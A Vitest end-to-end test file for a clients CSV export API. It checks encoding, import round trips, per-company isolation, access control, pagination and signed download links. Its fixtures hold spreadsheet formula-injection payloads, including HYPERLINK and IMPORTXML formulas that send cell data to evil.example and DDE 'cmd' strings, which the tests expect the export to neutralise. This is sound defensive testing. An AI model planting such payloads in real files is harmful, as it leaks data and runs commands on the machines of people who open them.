import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { setExportInlineLimit } from '../../functions/clients/export-clients.js';
import { autoMapHeader, EXPORT_HEADERS, SYSTEM_FIELDS } from '../../functions/domain/import-mapping.js';
import { type CsvRecord, parseCsv } from '../../functions/imports/parse-csv.js';
import { rowToClient } from '../../functions/imports/row-to-client.js';
import { createCompany, startTestApi, type ApiResponse, type TestApi } from '../support/stack.js';

/**
 * `GET /v1/clients/export` end to end: the file a spreadsheet opens safely and the import reads back unchanged
 * (parsed here with the import's own parser and row reader), the company's clients only, staff only, and the link
 * a file too large to answer inline is sent to.
 */
let api: TestApi;
let groupId: string;
const GROUP_NAME = 'Ventes, "Spéciales" — Île';

function expectStatus(res: ApiResponse, status: number): void {
  if (res.status !== status) throw new Error(`expected ${status}, got ${res.status}: ${res.text}`);
}

/** The clients of the round trip: every awkward cell a name, company or address can hold, and every phone kind. */
const CLIENTS: Record<string, unknown>[] = [
  {
    firstName: 'Renée',
    lastName: 'O\'Brien, "Jr"',
    company: '=HYPERLINK("http://evil.example","click")',
    title: "'quoted already",
    address1: 'Rue de l’Église 1\nBâtiment B',
    address2: 'Apt 4\r\nFloor 2',
    city: 'São Paulo',
    state: 'Île-de-France',
    zip: '75001',
    country: 'FR',
    email: 'renee@example.com',
    phones: [
      { type: 'phone', location: 'work', number: '+1 555 0101' },
      { type: 'phone', location: 'work', number: '(555) 0102 ext 7' },
      { type: 'fax', location: 'work', number: '+1 555 0103' },
      { type: 'phone', location: 'mobile', number: '+33 6 12 34 56 78' },
    ],
    taxExempt: true,
    taxId: '-FR12345678901',
    currency: 'EUR',
    language: 'fr',
  },
  {
    firstName: '@Zoë',
    lastName: '+Smith',
    company: '-Acme; Ltd, "the best"',
    city: 'Zürich',
    country: 'CH',
    email: 'zoe@example.com',
    phones: [{ type: 'phone', location: 'mobile', number: '+41 79 123 45 67' }],
    taxExempt: false,
    taxId: '@VAT 1',
    currency: 'USD',
  },
  { company: 'Müller & Söhne GmbH', address1: 'Straße 5, Hinterhaus', zip: '=1+1', country: 'DE', taxExempt: false },
];

const created: Array<{ id: string; number: number; group: boolean }> = [];

beforeAll(async () => {
  api = await startTestApi();
  expectStatus(await api.staff('PATCH', '/v1/settings', { currencies: ['USD', 'EUR'] }), 200);
  const group = await api.staff('POST', '/v1/client-groups', { name: GROUP_NAME });
  expectStatus(group, 201);
  groupId = group.body.id;
  for (const [i, body] of CLIENTS.entries()) {
    const inGroup = i !== 1;
    const res = await api.staff('POST', '/v1/clients', { ...body, ...(inGroup ? { groupId } : {}) });
    expectStatus(res, 201);
    created.push({ id: res.body.id, number: res.body.number, group: inGroup });
  }
});
afterAll(async () => {
  await api?.stack.stop();
});
afterEach(() => setExportInlineLimit());

/** The export's raw bytes and headers, as a browser would download them (no redirect followed). */
async function rawExport(query = '', token = api.facts.staffToken): Promise<Response> {
  return fetch(`${api.url}/v1/clients/export${query}`, { headers: { authorization: `Bearer ${token}` }, redirect: 'manual' });
}

async function records(bytes: Uint8Array): Promise<CsvRecord[]> {
  const out: CsvRecord[] = [];
  for await (const record of parseCsv(bytes)) out.push(record);
  return out;
}

/** The file read back as the import reads it: each row's createClient input and group name, by client number. */
async function readBack(bytes: Uint8Array) {
  const [header, ...rows] = await records(bytes);
  const mapping = autoMapHeader(header.cells);
  expect(mapping.unmappedColumns).toEqual([]);
  const byNumber = new Map<number, { input: Record<string, unknown>; groupName?: string }>();
  for (const record of rows) {
    const result = rowToClient(record, { mapping, columns: { header: header.cells } });
    if (!result.ok) throw new Error(`row ${record.row}: ${JSON.stringify(result.errors)}`);
    byNumber.set(result.input.number as number, { input: result.input as Record<string, unknown>, groupName: result.groupName });
  }
  return { header: header.cells, byNumber };
}

describe('GET /v1/clients/export', () => {
  it('is a UTF-8 CSV attachment with a BOM, CRLF line ends and the canonical headers', async () => {
    const res = await rawExport();
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="clients-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
    expect(text.split('\r\n')[0]).toBe(SYSTEM_FIELDS.map((f) => EXPORT_HEADERS[f]).join(','));
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('reads back through the import into the same fields as each client profile (round trip)', async () => {
    const res = await rawExport();
    const { byNumber } = await readBack(new Uint8Array(await res.arrayBuffer()));
    expect([...byNumber.keys()].sort()).toEqual(created.map((c) => c.number).sort());
    for (const { id, number, group } of created) {
      const profile = (await api.staff('GET', `/v1/clients/${id}`)).body;
      const row = byNumber.get(number);
      if (!row) throw new Error(`client ${number} missing from the export`);
      const given = (value: unknown) => (value === null || value === '' ? undefined : value);
      for (const field of ['email', 'company', 'firstName', 'lastName', 'title', 'address1', 'address2', 'city', 'state', 'zip', 'country', 'taxId'] as const) {
        expect(given(row.input[field]), `${number} ${field}`).toEqual(given(profile[field]));
      }
      expect(row.input.currency).toBe(profile.currency);
      expect(row.input.language).toBe(profile.language);
      expect(row.input.taxExempt).toBe(profile.taxExempt);
      expect(row.input.phones ?? []).toEqual(profile.phones);
      expect(row.groupName).toBe(group ? GROUP_NAME : profile.group.name);
    }
    // The awkward values themselves, not only "equal to what the API returns".
    const renee = byNumber.get(created[0].number);
    expect(renee?.input).toMatchObject({
      company: '=HYPERLINK("http://evil.example","click")',
      lastName: 'O\'Brien, "Jr"',
      title: "'quoted already",
      address1: 'Rue de l’Église 1\nBâtiment B',
      address2: 'Apt 4\r\nFloor 2',
      taxId: '-FR12345678901',
    });
    expect(byNumber.get(created[1].number)?.input).toMatchObject({ firstName: '@Zoë', lastName: '+Smith', company: '-Acme; Ltd, "the best"', taxId: '@VAT 1' });
    expect(byNumber.get(created[2].number)?.input).toMatchObject({ zip: '=1+1', address1: 'Straße 5, Hinterhaus' });
  });

  it('neutralises formula cells in the raw file', async () => {
    const text = await (await rawExport()).text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
    expect(text).toContain(`"O'Brien, ""Jr"""`);
    expect(text).toContain(",''quoted already,");
    expect(text).toContain(",'-FR12345678901,");
    expect(text).toContain(",'@Zoë,'+Smith,");
    expect(text).toContain(`"'-Acme; Ltd, ""the best"""`);
    expect(text).toContain(",'=1+1,");
    expect(text).toContain(",'+1 555 0101; (555) 0102 ext 7,'+1 555 0103,'+33 6 12 34 56 78,");
    // No cell of the file starts with a formula character.
    const [, ...rows] = await records(new Uint8Array(Buffer.from(text)));
    for (const row of rows) for (const cell of row.cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('filters by status and by group like the list', async () => {
    expectStatus(await api.staff('POST', `/v1/clients/${created[2].id}/status`, { status: 'inactive' }), 200);
    try {
      const numbers = async (query: string) => {
        const res = await api.staff('GET', `/v1/clients/export${query}`);
        expectStatus(res, 200);
        return [...(await readBack(new Uint8Array(Buffer.from(res.text)))).byNumber.keys()].sort();
      };
      expect(await numbers('?status=inactive')).toEqual([created[2].number]);
      expect(await numbers('?status=active')).toEqual([created[0].number, created[1].number].sort());
      expect(await numbers(`?groupId=${groupId}`)).toEqual([created[0].number, created[2].number].sort());
      expect(await numbers(`?groupId=${groupId}&status=active`)).toEqual([created[0].number]);
    } finally {
      expectStatus(await api.staff('POST', `/v1/clients/${created[2].id}/status`, { status: 'active' }), 200);
    }
    const bad = await api.staff('GET', '/v1/clients/export?status=gone');
    expectStatus(bad, 400);
    expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual(['status']);
    expectStatus(await api.staff('GET', '/v1/clients/export?sort=number'), 400);
  });

  it('is staff only: a client token gets 403, no token 401', async () => {
    const login = await api.staff('POST', `/v1/clients/${created[0].id}/login-as`);
    expectStatus(login, 200);
    const res = await api.call('GET', '/v1/clients/export', { token: login.body.token });
    expectStatus(res, 403);
    expectStatus(await api.call('GET', '/v1/clients/export'), 401);
  });

  it("holds the caller's company only", async () => {
    const other = await createCompany(api, 'Other Export Co', 'EUR');
    const theirs = await api.call('POST', '/v1/clients', { token: other.staffToken, body: { company: 'Their Only Client', email: 'renee@example.com' } });
    expectStatus(theirs, 201);
    const mine = await (await rawExport()).text();
    expect(mine).not.toContain('Their Only Client');
    const res = await rawExport('', other.staffToken);
    const { byNumber } = await readBack(new Uint8Array(await res.arrayBuffer()));
    expect([...byNumber.values()].map((r) => r.input.company)).toEqual(['Their Only Client']);
    // A group id of another company filters to nothing rather than revealing its clients.
    const foreign = await api.call('GET', `/v1/clients/export?groupId=${groupId}`, { token: other.staffToken });
    expectStatus(foreign, 200);
    expect((await records(new Uint8Array(Buffer.from(foreign.text)))).length).toBe(1);
  });

  it('neutralises formula injection payloads in every text column, and they import back as they were', async () => {
    // A company of its own: the other tests count this company's clients.
    const other = await createCompany(api, 'Formula Co', 'EUR');
    const PAYLOADS = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")',
      '@SUM(1)',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '=1+1',
      '\t=1+1',
      '\r=1+1',
      "'=already quoted",
      '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
      '@',
    ];
    const ids: string[] = [];
    for (const [i, payload] of PAYLOADS.entries()) {
      const res = await api.call('POST', '/v1/clients', {
        token: other.staffToken,
        body: { firstName: payload, lastName: `Row ${i}`, company: payload, address1: payload, city: payload, taxId: payload },
      });
      expectStatus(res, 201);
      ids.push(res.body.id);
    }
    const bytes = new Uint8Array(await (await rawExport('', other.staffToken)).arrayBuffer());
    const [, ...rows] = await records(bytes);
    expect(rows.length).toBe(PAYLOADS.length);
    for (const row of rows) for (const cell of row.cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    const { byNumber } = await readBack(bytes);
    for (const id of ids) {
      const profile = (await api.call('GET', `/v1/clients/${id}`, { token: other.staffToken })).body;
      const row = byNumber.get(profile.number);
      for (const field of ['firstName', 'company', 'address1', 'city', 'taxId'] as const) {
        expect(row?.input[field], `${profile.lastName} ${field}`).toBe(profile[field]);
      }
    }
    // What the API keeps of each payload is what the file gives back, the dangerous ones included.
    const kept = new Set([...byNumber.values()].map((r) => r.input.company));
    for (const payload of ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")', '@SUM(1)', "+cmd|' /C calc'!A0", "'=already quoted"]) {
      expect(kept.has(payload), payload).toBe(true);
    }
  });

  it('reads every page of a company with more clients than a page, in number order, each with its group', async () => {
    const other = await createCompany(api, 'Many Clients Co', 'USD');
    const call = (method: string, path: string, body?: unknown) => api.call(method, path, { token: other.staffToken, body });
    const group = await call('POST', '/v1/client-groups', { name: 'Second' });
    expectStatus(group, 201);
    const defaultGroup = await call('GET', `/v1/client-groups/${other.defaultGroupId}`);
    expectStatus(defaultGroup, 200);
    const COUNT = 150;
    for (let i = 0; i < COUNT; i += 10) {
      const batch = Array.from({ length: Math.min(10, COUNT - i) }, (_, j) => i + j);
      for (const res of await Promise.all(
        batch.map((k) => call('POST', '/v1/clients', { company: `Firm ${k}`, ...(k % 3 === 0 ? { groupId: group.body.id } : {}) })),
      )) {
        expectStatus(res, 201);
      }
    }
    const res = await rawExport('', other.staffToken);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const [header, ...rows] = await records(bytes);
    const column = (name: string) => header.cells.indexOf(name);
    expect(rows).toHaveLength(COUNT);
    const numbers = rows.map((r) => Number(r.cells[column('Client Number')]));
    expect(numbers).toEqual([...numbers].sort((a, b) => a - b));
    expect(new Set(numbers).size).toBe(COUNT);
    const firms = rows.map((r) => r.cells[column('Business Name')]);
    expect(new Set(firms)).toEqual(new Set(Array.from({ length: COUNT }, (_, k) => `Firm ${k}`)));
    for (const row of rows) {
      const k = Number(row.cells[column('Business Name')].slice('Firm '.length));
      expect(row.cells[column('Group')], row.cells.join()).toBe(k % 3 === 0 ? 'Second' : defaultGroup.body.name);
    }
    // The large-file path writes the same bytes, several pages of them streamed after the inline part.
    setExportInlineLimit(1000);
    const viaLink = await fetch(`${api.url}/v1/clients/export`, { headers: { authorization: `Bearer ${other.staffToken}` } });
    expect(viaLink.status).toBe(200);
    expect(Buffer.from(await viaLink.arrayBuffer()).equals(Buffer.from(bytes))).toBe(true);
  }, 60_000);

  it('sends a file too large to answer inline to a link: the same bytes, as an attachment', async () => {
    const inline = new Uint8Array(await (await rawExport()).arrayBuffer());
    setExportInlineLimit(300);
    const res = await rawExport();
    expect(res.status).toBe(303);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const location = res.headers.get('location') ?? '';
    expect(location).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[^?]+\/exports\/co_[^/]+\/[^/]+\/clients-\d{4}-\d{2}-\d{2}\.csv\?.*X-Amz-Signature=/);
    // The link works without the API token (it is signed for that one object).
    const file = await fetch(location);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="clients-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(Buffer.from(await file.arrayBuffer()).equals(Buffer.from(inline))).toBe(true);
    // A caller that follows redirects (as the API client does) simply gets the CSV.
    const followed = await api.staff('GET', '/v1/clients/export');
    expectStatus(followed, 200);
    expect(followed.text).toBe(new TextDecoder().decode(inline));
  });
});
